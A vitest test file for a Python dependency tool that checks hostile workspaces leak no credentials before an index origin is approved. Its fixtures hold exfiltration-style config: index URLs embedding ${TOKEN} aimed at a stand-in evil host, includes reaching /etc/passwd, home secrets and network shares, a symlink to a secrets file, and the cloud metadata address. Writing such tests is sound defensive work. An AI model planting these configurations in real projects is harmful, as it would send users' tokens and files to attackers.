// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a manifest's variables are written that way
import { symlink } from 'node:fs/promises';
import path from 'node:path';
import { expect, it } from 'vitest';
import { bytesOf, makeWorld, type World, type WorldOptions } from './world.ts';

/** What a user may have lying about; none of it is for an origin of the workspace. */
const secret = 'h0rse-battery-5taple';
const environment = {
  TOKEN: secret,
  CI_JOB_TOKEN: secret,
  UV_INDEX_INTERNAL_USERNAME: 'bob',
  UV_INDEX_INTERNAL_PASSWORD: secret,
  POETRY_HTTP_BASIC_INTERNAL_USERNAME: 'bob',
  POETRY_HTTP_BASIC_INTERNAL_PASSWORD: secret,
};
const home = {
  '.netrc': `machine 127.0.0.1\nlogin bob\npassword ${secret}\n`,
  '.config/pypoetry/auth.toml': `[http-basic.internal]\nusername = "bob"\npassword = "${secret}"\n`,
  '.config/pdm/config.toml': `[pypi.internal]\nurl = "{private}/simple/"\nusername = "bob"\npassword = "${secret}"\n`,
  'secrets.txt': `${secret}\n`,
};

const name = 'acme-ledger-core-7f';
const project = `[project]\nname = "shop"\nversion = "1"\ndependencies = ["${name}==1.0", "requests"]\n`;

interface Trick extends WorldOptions {
  readonly what: string;
  readonly before?: (world: World) => Promise<void>;
}

/** Each of them is opened as it is, before anybody approved anything. */
const tricks: readonly Trick[] = [
  {
    what: 'an index of its own in requirements',
    files: { 'requirements.txt': `--index-url {evil}/simple/\n${name}\nrequests\n` },
  },
  {
    what: 'a file for pip in an environment that came with the repository and is active',
    files: {
      '.venv/pyvenv.cfg': 'home = /usr/bin\nversion = 3.12.0\n',
      '.venv/pip.conf': '[global]\nindex-url = {evil}/simple/\n',
      'requirements.txt': `${name}\nrequests\n`,
    },
    environment: { VIRTUAL_ENV: '~/../work/.venv' },
  },
  {
    what: 'an extra index',
    files: { 'requirements.txt': `--extra-index-url {evil}/simple/\n${name}\nrequests\n` },
  },
  {
    what: 'a variable of the environment in the host',
    files: { 'requirements.txt': '--index-url http://${TOKEN}.{evil-host}/simple/\nrequests\n' },
  },
  {
    what: 'a variable in the path, the query and the user info',
    files: {
      'requirements.txt':
        '--index-url http://{evil-host}/${TOKEN}/simple/\n--extra-index-url http://{evil-host}/simple/?t=${TOKEN}\n--extra-index-url http://${TOKEN}@{evil-host}/simple/\nrequests\n',
    },
  },
  {
    what: 'an index that calls itself internal (uv)',
    files: {
      'pyproject.toml': `${project}[[tool.uv.index]]\nname = "internal"\nurl = "{evil}/simple/"\n[tool.uv.sources]\n${name} = { index = "internal" }\n`,
    },
  },
  {
    what: 'one that does so in uv.toml',
    files: {
      'pyproject.toml': project,
      'uv.toml': '[[index]]\nname = "internal"\nurl = "{evil}/simple/"\ndefault = true\n',
    },
  },
  {
    what: 'one that does so for Poetry',
    files: {
      'pyproject.toml': `[tool.poetry]\nname = "shop"\n[tool.poetry.dependencies]\n${name} = { version = "1.0", source = "internal" }\n[[tool.poetry.source]]\nname = "internal"\nurl = "{evil}/simple/"\n`,
    },
  },
  {
    what: 'one that does so for PDM, with a variable',
    files: {
      'pyproject.toml': `${project}[[tool.pdm.source]]\nname = "internal"\nurl = "http://bob:\${TOKEN}@{evil-host}/simple/"\n`,
      'pdm.toml': '[pypi.internal]\nurl = "{evil}/simple/"\n',
    },
  },
  {
    what: 'a Pipfile with variables',
    files: {
      Pipfile: `[[source]]\nname = "internal"\nurl = "http://bob:\${TOKEN}@{evil-host}/simple"\nverify_ssl = false\n[packages]\n${name} = "*"\n`,
    },
  },
  {
    what: 'a pip.conf of the workspace and of its environment',
    files: {
      'pip.conf': '[global]\nindex-url = {evil}/simple/\n',
      '.venv/pyvenv.cfg': 'home = /usr/bin\nversion = 3.11.0\n',
      '.venv/pip.conf': '[global]\nindex-url = {evil}/simple/\n',
      'requirements.txt': `${name}\nrequests\n`,
    },
  },
  {
    what: 'settings of the editor and a policy',
    files: {
      '.vscode/settings.json': '{ "wheelwarden.indexUrl": "{evil}/simple/", "wheelwarden.osvUrl": "{evil}" }',
      'wheelwarden.toml': 'index-url = "{evil}/simple/"\ntrust-indexes = true\n',
      'requirements.txt': `${name}\nrequests\n`,
    },
  },
  {
    what: 'includes from elsewhere',
    files: {
      'requirements.txt':
        '-r {evil}/more.txt\n-c {evil}/constraints.txt\n-r //evil.example/share/more.txt\n-r \\\\evil.example\\share\\more.txt\n-r file://evil.example/share/more.txt\n-r ../home/secrets.txt\n-c ../../../../../../etc/passwd\n-r /etc/hostname\nrequests\n',
    },
  },
  {
    what: 'an include that is a link out of the workspace',
    files: { 'requirements.txt': '-r linked.txt\nrequests\n' },
    before: (world) => symlink(path.join(world.home, 'secrets.txt'), world.path('linked.txt')),
  },
  {
    what: 'addresses of packages',
    files: {
      'requirements.txt': `${name} @ {evil}/acme.whl\ngit+{evil}/acme.git#egg=acme-x\n{evil}/other-1.0.tar.gz\n-e git+{evil}/third.git#egg=third\n`,
      'pyproject.toml': `${project}[tool.uv.sources]\n${name} = { url = "{evil}/acme.whl" }\n`,
    },
  },
  {
    what: 'the address of a machine’s own metadata',
    files: {
      'requirements.txt':
        '--index-url http://169.254.169.254/latest/\n--extra-index-url http://[fe80::1]/simple/\nrequests\n',
    },
  },
  {
    what: 'locks',
    files: {
      'pyproject.toml': project,
      'uv.lock': `version = 1\n[[package]]\nname = "${name}"\nversion = "1.0"\nsource = { registry = "{evil}/simple/" }\n[[package.wheels]]\nurl = "{evil}/acme-1.0-py3-none-any.whl"\n`,
      'poetry.lock': `[[package]]\nname = "${name}"\nversion = "1.0"\n[package.source]\ntype = "legacy"\nurl = "{evil}/simple"\nreference = "internal"\n`,
    },
  },
  {
    what: 'a Dockerfile, a workflow and a Makefile',
    files: {
      Dockerfile: `FROM python\nENV PIP_INDEX_URL=http://bob:\${TOKEN}@{evil-host}/simple/\nRUN pip install ${name} requests\n`,
      Makefile: `install:\n\tpip install --extra-index-url {evil}/simple/ ${name}\n`,
      '.github/workflows/ci.yml': `jobs:\n  test:\n    steps:\n      - run: pip install -i {evil}/simple/ ${name}\n`,
    },
  },
];

it.each(tricks)('a hostile workspace gets nothing out: $what', async (trick) => {
  const world = await makeWorld({
    ...trick,
    home,
    environment: { ...environment, ...trick.environment },
  });
  try {
    await trick.before?.(world);
    for (const file of Object.keys(trick.files)) {
      if (/\.(?:txt|toml|lock|yml)$|Pipfile|Dockerfile|Makefile/.test(file)) await world.look(file);
    }
    const { evil, private: team, public: pypi } = world.servers;
    expect(bytesOf(evil)).toBe('');
    expect(bytesOf(team)).toBe('');
    expect(bytesOf(pypi)).not.toContain(secret);
    for (const said of world.said) expect(said).not.toContain(secret);
    for (const [file, text] of await world.kept())
      expect([file, text.includes(secret)]).toEqual([file, false]);
    expect([...world.touched].filter((file) => isElsewhere(file, world))).toEqual([]);
  } finally {
    await world.close();
  }
});

/** Files of others: shares of the network, the user's own papers, what a repository points at. */
function isElsewhere(file: string, { home: own, workspace }: World): boolean {
  if (/^(?:\/\/|\\\\)/.test(file)) return true;
  if (file.includes('evil.example') && !file.startsWith(`${workspace}${path.sep}`)) return true;
  return file === path.join(own, 'secrets.txt') || file === '/etc/passwd' || file === '/etc/hostname';
}

it('an approved origin is asked, but gets no secret before its name was approved too', async () => {
  const world = await makeWorld({
    environment,
    home: {},
    files: {
      'pyproject.toml': `${project}[[tool.uv.index]]\nname = "internal"\nurl = "{evil}/simple/"\n[tool.uv.sources]\n${name} = { index = "internal" }\n`,
    },
    evil: { projects: { [name]: { releases: { '1.0': '400 days' } } } },
  });
  try {
    const { evil } = world.servers;
    await world.look('pyproject.toml');
    const [pending] = world.engine.pendingOrigins();
    expect(pending).toMatchObject({
      origin: new URL(evil.url).origin,
      credentials: ['UV_INDEX_INTERNAL_PASSWORD'],
    });
    expect(bytesOf(evil)).toBe('');

    await world.engine.answerOrigin(new URL(evil.url).origin, { approve: true, credentials: [] });
    await world.look('pyproject.toml');
    expect(bytesOf(evil)).toContain(name);
    expect(bytesOf(evil)).not.toContain(secret);

    await world.engine.answerOrigin(new URL(evil.url).origin, {
      approve: true,
      credentials: ['UV_INDEX_INTERNAL_PASSWORD'],
    });
    await world.look('pyproject.toml');
    expect(bytesOf(evil)).toContain(secret);
    expect(bytesOf(world.servers.public)).not.toContain(secret);
    expect(bytesOf(world.servers.private)).toBe('');

    evil.clearRequests();
    await world.engine.answerOrigin(new URL(evil.url).origin, null);
    await world.look('pyproject.toml');
    expect(bytesOf(evil)).toBe('');
  } finally {
    await world.close();
  }
});

it('what a public index answers leads into no private network', async () => {
  const world = await makeWorld({
    files: { 'requirements.txt': 'requests==2.32.0\n' },
    public: { projects: { requests: { releases: { '2.32.0': '400 days' } } } },
  });
  try {
    const inside = world.servers.private.url;
    world.servers.public.setFault({
      kind: 'json',
      path: '/simple/requests',
      change: (value) => {
        const page = value as { files: Record<string, unknown>[] };
        const files = page.files.map((file) => ({
          ...file,
          url: `${inside}/packages/requests-2.32.0-py3-none-any.whl`,
          'core-metadata': true,
          provenance: 'http://169.254.169.254/provenance',
        }));
        return { ...page, files };
      },
    });
    await world.look('requirements.txt');
    expect(bytesOf(world.servers.public)).toContain('/simple/requests/');
    expect(bytesOf(world.servers.private)).toBe('');
  } finally {
    await world.close();
  }
});
